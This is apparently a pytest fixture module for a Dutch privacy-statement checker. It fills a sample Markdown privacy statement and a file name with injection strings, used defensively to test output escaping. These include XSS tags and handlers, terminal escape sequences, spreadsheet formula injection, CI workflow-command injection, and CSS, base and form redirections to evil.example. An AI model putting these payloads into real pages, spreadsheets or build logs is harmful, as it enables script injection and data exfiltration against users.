"""A statement that tries to be more than text wherever it is shown: in pages, cells, terminals, Markdown."""

from __future__ import annotations

from pathlib import Path

import pytest

_MARKS = (
    "\x1b[31mrood\x1b]8;;http://evil.example\x1b\\hier\x1b]8;;\x1b\\ \x9b2J \u202egewisseld <script>alert(1)</script> "
    "<img src=x onerror=alert(1)> <svg/onload=alert(1)> [klik](javascript:alert(1)) ![x](http://evil.example/x.png) "
    "{{ 7*7 }} {% raw %} {0.__class__} %s `code` | cel | ]]> www.evil.example https://evil.example/ ::error::x "
    "%0A::set-env::"
)
# What a page could take for its own: the end of its style or script, a handler, another address, another document.
_PAGE = """
</style><style>*{background:url(https://evil.example/c)}@import 'https://evil.example/d';</style>
</script><script>alert(2)</script> <!--<script>alert(3)</script>--> " onmouseover=alert(4) x=" ' onfocus='alert(5)
\\3c script\\3e alert(6) \\22\\3b } ${alert(7)} &lt;script&gt;alert(8)&lt;/script&gt;
<a href="data:text/html,<script>alert(9)</script>">a</a> <iframe srcdoc="<script>alert(10)</script>"></iframe>
<base href=//evil.example/> <meta http-equiv=refresh content="0;url=https://evil.example/">
<link rel=stylesheet href=//evil.example/s.css> <svg><animate onbegin=alert(11) attributeName=x /></svg>
<math href=javascript:alert(12)> <object data=//evil.example/o></object> <details open ontoggle=alert(13)>
<form action=//evil.example/><button>b</button>
""".replace("\n", " ")
EVIL = f"{_MARKS} {_PAGE}"
NAME = "=kwaad \x1b[31m <script>\n::error::.md"
PLAIN = "# Privacyverklaring\n\nWij bewaren uw naam en e-mailadres twee jaar voor de levering van uw bestelling.\n"


def statement(evil: str = EVIL) -> str:
    """The statement in Markdown, with this wherever a name, a heading, a cell or a sentence can hold it."""
    return f"""# Privacyverklaring {evil}

Stichting Voorbeeld {evil} is verantwoordelijk voor de verwerking. Wij gebruiken uw naam indien nodig {evil} en onder
andere voor marketing. U kunt mailen naar info@voorbeeld.example.

## =HYPERLINK("http://evil.example") {evil}

| Doel | Gegevens | Bewaartermijn | Ontvanger |
| --- | --- | --- | --- |
| =1+1 levering {evil} | @naam, e-mailadres | +twee jaar | -PostNL {evil} |

Wij bewaren uw gegevens zo lang als nodig {evil}. Wij delen uw naam met =cmd Kwaad B.V. {evil}.
"""


def place(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder, where the test now stands, with the statement under a hostile name and a plain one beside it."""
    monkeypatch.chdir(folder)
    monkeypatch.setenv("AVGTOETS_CACHE_DIR", str(folder / "cache"))
    monkeypatch.setenv("NO_COLOR", "1")
    (folder / NAME).write_text(statement())
    (folder / "gewoon.md").write_text(PLAIN)
    return folder
